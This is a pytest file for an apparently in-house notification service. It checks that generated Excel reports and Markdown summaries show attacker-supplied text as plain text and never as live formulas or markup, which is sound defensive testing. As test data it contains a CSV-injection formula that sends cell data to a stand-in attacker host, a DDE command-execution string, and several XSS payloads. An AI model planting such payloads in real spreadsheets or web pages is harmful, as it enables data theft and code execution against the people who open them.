"""Formula-safe reports: what users, files and carriers wrote comes back as text, never as a live formula.

An attacker puts `=HYPERLINK(...)` (or `+`, `-`, `@`, tab, CR, `#N/A`) into a task name, a message
text, a phone cell or a carrier's status description; every workbook notiflow writes shows it exactly
as written, stored as a string (no `<f>` element in the sheet's XML), and every Markdown artifact shows
it as text (no link, HTML, emphasis or broken table).
"""
from __future__ import annotations

import csv
import re
import uuid
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from sqlalchemy import select

import tasks.reporting.progress
from models.db import session_scope
from models.history import transition
from models.params import HistoryFilter, NotificationTaskParams
from models.status import MessageStatus
from models.tables import Message, PhoneCheckResult
from tasks.control.lifecycle import open_task
from tasks.delivery.hlr import export_checks
from tasks.intake.intake import intake
from tasks.reporting.history import export_history
from tasks.reporting.markdown import code_span, escape
from tasks.reporting.progress import publish_summary
from tasks.reporting.report import build_report
from tasks.schedule.schedule import schedule

LEAK = '=HYPERLINK("http://evil.example/?"&J3&C2,"Click for details")'
# What Excel would start a formula with (OWASP CSV injection), and the text of an error value. Intake
# trims the texts; a carrier's descriptions are kept as they come, leading tab and CR included (XML
# reads a CR back as a line feed, so only its cell's type is compared).
ACTIVE = [LEAK, "=1+1", "+7(916)000-00-00 call", "-2+3", "@SUM(A1:A9)", "#N/A"]
DESCRIPTIONS = [LEAK, "\t=1+1", "\r=2+2"]
DDE = "=cmd|' /C calc'!A0"  # a phone cell that is a formula, quoted in its rejection
NAME = '=HYPERLINK("http://evil.example","report") | *bold* [x](javascript:alert(1)) <script>alert(1)</script>\nnext'


def formulas_in(path: str) -> list[str]:
    """Every <f> element of every sheet in the saved file."""
    with zipfile.ZipFile(path) as archive:
        return [
            match for name in archive.namelist() if name.startswith("xl/worksheets/")
            for match in re.findall(r"<f[ >].*?</f>|<f/>", archive.read(name).decode())
        ]


def cells(path: str, sheet: str) -> list[Any]:
    workbook = load_workbook(path)
    return [cell for row in workbook[sheet].iter_rows() for cell in row if cell.value is not None]


def hostile_task(tmp_path: Path) -> int:
    """A task uploaded as CSV (text, as an attacker writes it) whose name and cells start like formulas."""
    path = tmp_path / f"hostile-{uuid.uuid4().hex[:6]}.csv"
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["phone", "text"])
        for i, text in enumerate(ACTIVE):
            writer.writerow([f"+7916{uuid.uuid4().int % 10_000_000:07d}", text])
        writer.writerow([DDE, "a phone cell that is a formula"])
    params = NotificationTaskParams(task_file=str(path), name=NAME, windows=["00:00-24:00"])
    task_id = open_task.fn(params, str(uuid.uuid4()))
    intake.fn(task_id)
    schedule.fn(task_id)
    with session_scope() as session:
        ids = session.scalars(select(Message.id).where(Message.task_id == task_id).order_by(Message.id)).all()
        for message_id, description in zip(ids, DESCRIPTIONS):
            # A carrier's description of a refusal, as a webhook would write it.
            transition(session, Message.id == message_id, MessageStatus.ERROR, description, "webhook")
    return task_id


def test_task_report_stores_every_formula_like_text_as_text(tmp_path: Path, engine: Any) -> None:
    task_id = hostile_task(tmp_path)
    path = build_report.fn(task_id).path
    assert formulas_in(path) == []
    texts = {cell.value for cell in cells(path, "Messages") if cell.data_type == "s"}
    assert set(ACTIVE) | set(DESCRIPTIONS[:2]) <= texts, "texts and the carrier's descriptions, exactly as written"
    assert all(cell.data_type != "f" for sheet in ("Messages", "Rejected rows", "Summary") for cell in cells(path, sheet))
    rejected = [cell.value for cell in cells(path, "Rejected rows")]
    assert DDE in rejected, "the rejected phone cell is quoted as it was written"
    assert NAME in [cell.value for cell in cells(path, "Summary")]
    # Kept as text when someone edits the cell in Excel, without a visible quote.
    leak = next(cell for cell in cells(path, "Messages") if cell.value == LEAK)
    assert leak.quotePrefix


def test_history_export_stores_every_formula_like_text_as_text(tmp_path: Path, engine: Any) -> None:
    task_id = hostile_task(tmp_path)
    path = export_history(HistoryFilter(task_id=task_id)).path
    assert formulas_in(path) == []
    assert set(ACTIVE) | set(DESCRIPTIONS[:2]) <= {cell.value for cell in cells(path, "Messages") if cell.data_type == "s"}


def test_phone_check_export_stores_a_formula_like_description_as_text(engine: Any) -> None:
    check = PhoneCheckResult(
        id=1, phone="+79160000000", status="absent", status_description=LEAK, operator="@op", provider="sandbox",
        price=Decimal("0.5"), created_at=datetime.now(UTC),
    )
    path = str(export_checks([check]))
    assert formulas_in(path) == []
    assert LEAK in [cell.value for cell in cells(path, "Phone checks")]


def render(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(markdown)


@pytest.mark.parametrize("value", [NAME, "a|b", "*x*", "_x_", "[x](javascript:alert(1))", "<img src=x onerror=alert(1)>",
                                   "`code`", "&lt;b&gt;", "# heading", "1. item", "\\*", "line\r\nbreak"])
def test_escaped_text_renders_as_the_same_characters_in_a_table_cell(value: str) -> None:
    html = render(f"| a | b |\n|---|---|\n| {escape(value)} | end |\n")
    assert "<a " not in html and "<script" not in html and "<img" not in html and "<em>" not in html and "<strong>" not in html
    row = re.findall(r"<tr>\n<td>(.*?)</td>\n<td>(.*?)</td>\n</tr>", html, re.S)
    assert len(row) == 1 and row[0][1] == "end", "one row of two cells"
    assert _unescape_html(row[0][0]) == re.sub(r"[\r\n]+", " ", value)


def test_code_span_holds_backticks_and_stays_on_one_line() -> None:
    for value in ["/reports/a`b`.xlsx", "`start", "a\nb"]:
        html = render(f"path: {code_span(value)}")
        assert _unescape_html(re.findall(r"<code>(.*?)</code>", html)[0]) == value.replace("\n", " ")


def test_summary_artifact_shows_the_task_name_and_rejection_reasons_as_text(
    tmp_path: Path, engine: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    published: list[dict[str, Any]] = []
    # The Prefect API is the outside world here: the artifact is kept, not posted.
    monkeypatch.setattr(tasks.reporting.progress, "create_markdown_artifact", lambda markdown, **kw: published.append({"markdown": markdown, **kw}))
    task_id = hostile_task(tmp_path)
    markdown = publish_summary(task_id)
    html = render(markdown)
    assert not re.search(r'<a href="(?!http://127\.0\.0\.1)', html), "the only links are the report's own"
    assert "<script" not in html and "<em>" not in html and "<strong>bold" not in html
    assert _unescape_html(re.findall(r"<h1>(.*?)</h1>", html)[0]) == NAME.replace("\n", " ")
    assert f"{DDE!r} contains letters" in _unescape_html(html), "the rejection reason quotes the phone cell as written"
    assert published[0]["description"] == f"Summary of {escape(NAME)}"


def _unescape_html(html: str) -> str:
    return html.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
